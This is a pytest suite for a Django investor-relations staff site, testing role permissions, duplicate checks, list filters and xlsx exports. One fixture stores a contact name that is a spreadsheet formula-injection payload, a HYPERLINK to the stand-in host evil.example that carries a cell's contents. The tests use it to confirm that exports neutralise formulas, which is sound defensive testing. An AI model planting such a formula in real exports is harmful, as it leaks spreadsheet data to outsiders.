"""The staff pages, for each role inside and outside scope."""

import datetime as dt
from io import BytesIO

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from openpyxl import load_workbook

from investors import services
from investors.models import Contact, Interaction, Investor
from tests.factories import InvestorFactory

pytestmark = pytest.mark.django_db

ROLES = [
    "admin_user",
    "bureau_user",
    "district_user",
    "district_user_b",
    "liaison_user",
    "office110_user",
]


@pytest.fixture
def inv_a(region_a):
    return InvestorFactory(
        name_zh_hans="甲区客商", name_en="Investor of A", country="TW", owner_region=region_a
    )


@pytest.fixture
def inv_b(region_b):
    return InvestorFactory(
        name_zh_hans="乙区客商", name_en="Investor of B", country="DE", owner_region=region_b
    )


@pytest.mark.parametrize("role", ROLES)
def test_every_role_reads_the_city_wide_database(client, request, role, inv_a, inv_b):
    client.force_login(request.getfixturevalue(role))
    body = client.get("/en/staff/investors/").content.decode()
    assert "Investor of A" in body
    assert "Investor of B" in body
    assert client.get(f"/en/staff/investors/{inv_b.pk}/").status_code == 200
    for path in ("activities/", "agents/", "report/", "inquiries/", "reminders/"):
        assert client.get(f"/en/staff/investors/{path}").status_code == 200, path


EDIT = {
    "admin_user": True,
    "bureau_user": True,
    "district_user": True,  # owner region of inv_a
    "district_user_b": False,
    "liaison_user": False,
    "office110_user": False,
}


@pytest.mark.parametrize("role", ROLES)
def test_edit_by_owner_region_or_bureau(client, request, role, inv_a):
    client.force_login(request.getfixturevalue(role))
    allowed = EDIT[role]
    assert client.get(f"/en/staff/investors/{inv_a.pk}/edit/").status_code == (
        200 if allowed else 403
    )
    resp = client.post(
        f"/en/staff/investors/{inv_a.pk}/contacts/new/",
        {"name": "Li Lei", "email": "li@example.com"},
    )
    assert resp.status_code == (302 if allowed else 403)
    assert Contact.objects.filter(investor=inv_a).exists() == allowed


def test_unknown_investor_is_404(client, bureau_user):
    client.force_login(bureau_user)
    assert client.get("/en/staff/investors/999999/").status_code == 404


def test_taiwan_reads_as_part_of_china_in_both_languages(client, bureau_user, inv_a):
    client.force_login(bureau_user)
    assert "中国台湾" in client.get(f"/zh-hans/staff/investors/{inv_a.pk}/").content.decode()
    assert "Taiwan, China" in client.get(f"/en/staff/investors/{inv_a.pk}/").content.decode()


def test_create_shows_duplicate_first_then_confirmed(client, district_user, region_a, inv_a):
    client.force_login(district_user)
    data = {
        "name_zh_hans": "",
        "name_en": "INVESTOR OF A Co., Ltd.",
        "country": "TW",
        "channel": "other",
        "owner_region": region_a.pk,
    }
    page = client.post("/en/staff/investors/new/", data)
    assert page.status_code == 200
    assert 'data-testid="duplicates"' in page.content.decode()
    assert Investor.objects.count() == 1
    resp = client.post("/en/staff/investors/new/", {**data, "confirm_new": "on"})
    assert resp.status_code == 302
    assert Investor.objects.count() == 2


def test_new_investor_from_project_form_returns_to_it(client, district_user, region_a):
    client.force_login(district_user)
    form = client.get("/en/staff/projects/new/").content.decode()
    assert "/en/staff/investors/new/?for=project" in form
    resp = client.post(
        "/en/staff/investors/new/?for=project",
        {"name_zh_hans": "新客商", "country": "SG", "channel": "fair", "owner_region": region_a.pk},
    )
    inv = Investor.objects.get(name_zh_hans="新客商")
    assert resp["Location"] == f"/en/staff/projects/new/?investor={inv.pk}"
    page = client.get(resp["Location"]).content.decode()
    assert f'<option value="{inv.pk}" selected lang="zh-Hans">新客商 (no English name yet)<' in page


def test_log_interaction_page(client, district_user, liaison_user, inv_b):
    client.force_login(liaison_user)
    assert client.get(f"/en/staff/investors/{inv_b.pk}/interactions/new/").status_code == 403
    client.force_login(district_user)  # may log on another region's investor, not edit it
    today = timezone.localdate()
    resp = client.post(
        f"/en/staff/investors/{inv_b.pk}/interactions/new/",
        {
            "kind": "meeting",
            "date": today.isoformat(),
            "summary": "Met at the fair",
            "next_follow_up": (today + dt.timedelta(days=3)).isoformat(),
        },
    )
    assert resp.status_code == 302
    assert Interaction.objects.get().logged_by == district_user
    bad = client.post(
        f"/en/staff/investors/{inv_b.pk}/interactions/new/",
        {"kind": "meeting", "date": "2100-01-01", "summary": "future"},
    )
    assert bad.status_code == 200
    assert "future" in bad.content.decode()
    assert Interaction.objects.count() == 1


def test_list_filters_search_and_export(client, bureau_user, inv_a, inv_b):
    client.force_login(bureau_user)
    body = client.get("/en/staff/investors/?source_group=hmt").content.decode()
    assert "Investor of A" in body
    assert "Investor of B" not in body
    body = client.get("/en/staff/investors/?q=of+B").content.decode()
    assert "Investor of B" in body
    assert "Investor of A" not in body
    resp = client.get("/zh-hans/staff/investors/export.xlsx?country=TW")
    ws = load_workbook(BytesIO(resp.content)).active
    rows = list(ws.iter_rows(min_row=2, values_only=True))
    assert [(r[1], r[3]) for r in rows] == [("甲区客商", "中国台湾")]
    assert client.get("/en/staff/investors/?country=ZZ").status_code == 200


def test_yes_no_filter_reads_in_the_page_language(client, bureau_user):
    """The quiet filter's choices are translated when the page is drawn: "All" on the
    English page and 全部 on the Chinese one, whatever language was active at import."""
    import re

    client.force_login(bureau_user)
    for lang, empty, yes in (("en", "All", "Yes"), ("zh-hans", "全部", "是")):
        page = client.get(f"/{lang}/staff/investors/").content.decode()
        select = re.search(r'<select name="quiet".*?</select>', page, re.S).group(0)
        options = re.findall(r"<option[^>]*>([^<]*)</option>", select)
        assert options[0] == empty
        assert yes in options
        assert "未知" not in select
        assert "Unknown" not in select


def test_list_query_count_does_not_grow(client, bureau_user, region_a):
    client.force_login(bureau_user)
    InvestorFactory.create_batch(3, owner_region=region_a)
    with CaptureQueriesContext(connection) as few:
        client.get("/en/staff/investors/")
    InvestorFactory.create_batch(30, owner_region=region_a)
    with CaptureQueriesContext(connection) as many:
        client.get("/en/staff/investors/")
    assert len(many) == len(few)


def test_activity_pages_scoped_for_edit(client, district_user, district_user_b, region_a):
    client.force_login(district_user)
    resp = client.post(
        "/en/staff/investors/activities/new/",
        {
            "name_zh_hans": "小分队",
            "kind": "delegation",
            "start_date": "2026-03-01",
            "end_date": "2026-03-04",
            "organiser_region": region_a.pk,
            "cost_cny_10k": "12",
        },
    )
    assert resp.status_code == 302
    from investors.models import PromotionActivity

    act = PromotionActivity.objects.get()
    assert client.get(f"/en/staff/investors/activities/{act.pk}/edit/").status_code == 200
    client.force_login(district_user_b)
    assert client.get(f"/en/staff/investors/activities/{act.pk}/").status_code == 200
    assert client.get(f"/en/staff/investors/activities/{act.pk}/edit/").status_code == 403
    xlsx = client.get("/en/staff/investors/activities/?format=xlsx")
    assert xlsx["Content-Type"].startswith("application/vnd.openxmlformats")


def test_report_counts_per_staff_and_month(client, bureau_user, district_user, inv_a):
    today = timezone.localdate()
    services.interaction_log(
        user=district_user, investor=inv_a, kind="visit", date=today, summary="v"
    )
    from investors.selectors import activity_report

    rep = activity_report(bureau_user, today.year)
    row = next(r for r in rep["staff"] if r["user"] == district_user)
    assert row["cells"][today.month - 1] == [1, 1, 0]
    assert row["total"] == [1, 1, 0]
    own = activity_report(district_user, today.year)
    assert {r["user"] for r in own["staff"]} == {district_user}


# ---- xlsx exports of contacts and interactions ----------------------------------------------


def _sheet(resp):
    assert resp.status_code == 200, resp.status_code
    assert resp["Content-Type"].startswith("application/vnd.openxmlformats")
    ws = load_workbook(BytesIO(resp.content)).active
    return [list(r) for r in ws.iter_rows(values_only=True)]


@pytest.fixture
def crm(district_user, bureau_user, inv_a, inv_b):
    ca = services.contact_create(
        user=district_user,
        investor=inv_a,
        data={"name": '=HYPERLINK("http://evil.example/?x="&A1,"x")', "email": "a@example.com"},
    )
    cb = services.contact_create(user=bureau_user, investor=inv_b, data={"name": "Bob B"})
    day = timezone.localdate() - dt.timedelta(days=3)
    ia = services.interaction_log(
        user=district_user,
        investor=inv_a,
        kind="visit",
        date=day,
        summary="+1 visit",
        contacts=[ca],
    )
    ib = services.interaction_log(
        user=bureau_user, investor=inv_b, kind="call", date=day, summary="call B"
    )
    return {"contacts": (ca, cb), "interactions": (ia, ib)}


def test_contact_export_is_the_filtered_lists_contacts_written_as_text(client, bureau_user, crm):
    ca, cb = crm["contacts"]
    client.force_login(bureau_user)
    rows = _sheet(client.get("/en/staff/investors/contacts.xlsx"))
    assert rows[0][:4] == ["ID", "Investor ID", "Investor", "Name"]
    assert sorted(r[0] for r in rows[1:]) == sorted([ca.pk, cb.pk])
    # Filtered as the investor list: only the Taiwan investor's contact.
    rows = _sheet(client.get("/en/staff/investors/contacts.xlsx?country=TW"))
    assert [r[0] for r in rows[1:]] == [ca.pk]
    row = rows[1]
    assert row[1] == ca.investor_id
    assert row[2] == "Investor of A"
    assert row[3] == "'" + ca.name  # a formula typed by a user stays text
    assert row[5] == "a@example.com"


def test_interaction_export_is_the_filtered_lists_interactions(client, district_user_b, crm):
    ia, ib = crm["interactions"]
    # District staff of another region read the city-wide database, exports included.
    client.force_login(district_user_b)
    rows = _sheet(client.get("/zh-hans/staff/investors/interactions.xlsx"))
    assert sorted(r[0] for r in rows[1:]) == sorted([ia.pk, ib.pk])
    rows = _sheet(client.get("/en/staff/investors/interactions.xlsx?q=of+A"))
    assert len(rows) == 2
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["ID"] == ia.pk
    assert row["Kind"] == "Visit"
    assert row["Investor"] == "Investor of A"
    assert row["Summary"] == "'+1 visit"
    assert row["Contacts"] == "'" + crm["contacts"][0].name
    assert row["Date"].date() == ia.date


def test_related_exports_refuse_a_bad_filter_and_anonymous(client, bureau_user, crm):
    for url in ("/en/staff/investors/contacts.xlsx", "/en/staff/investors/interactions.xlsx"):
        resp = client.get(url)
        assert resp.status_code == 302
        assert "/accounts/login/" in resp["Location"]
    client.force_login(bureau_user)
    assert client.get("/en/staff/investors/contacts.xlsx?owner_region=999999").status_code == 400
    assert client.get("/en/staff/investors/interactions.xlsx?sort=nope").status_code == 400


def test_related_exports_stop_at_the_direct_limit(client, bureau_user, crm, settings):
    settings.EXPORT_DIRECT_MAX_ROWS = 1
    client.force_login(bureau_user)
    resp = client.get("/en/staff/investors/contacts.xlsx?channel=")
    assert resp.status_code == 302
    assert resp["Location"].startswith("/en/staff/investors/")


def test_list_page_offers_the_related_exports_with_its_filters(client, office110_user, crm):
    client.force_login(office110_user)
    body = client.get("/en/staff/investors/?country=TW").content.decode()
    assert 'href="/en/staff/investors/contacts.xlsx?country=TW"' in body
    assert 'href="/en/staff/investors/interactions.xlsx?country=TW"' in body


def test_agent_list_searches_name_and_organisation(client, bureau_user):
    from investors.models import Agent

    by_name = Agent.objects.create(name="Hans Weber", organisation="")
    by_org = Agent.objects.create(name="李明", organisation="Weber Consulting")
    Agent.objects.create(name="Anna Rossi", organisation="Milano Partners")
    client.force_login(bureau_user)
    resp = client.get("/en/staff/investors/agents/?q=weber")
    assert resp.status_code == 200
    assert {a.pk for a in resp.context["agents"]} == {by_name.pk, by_org.pk}
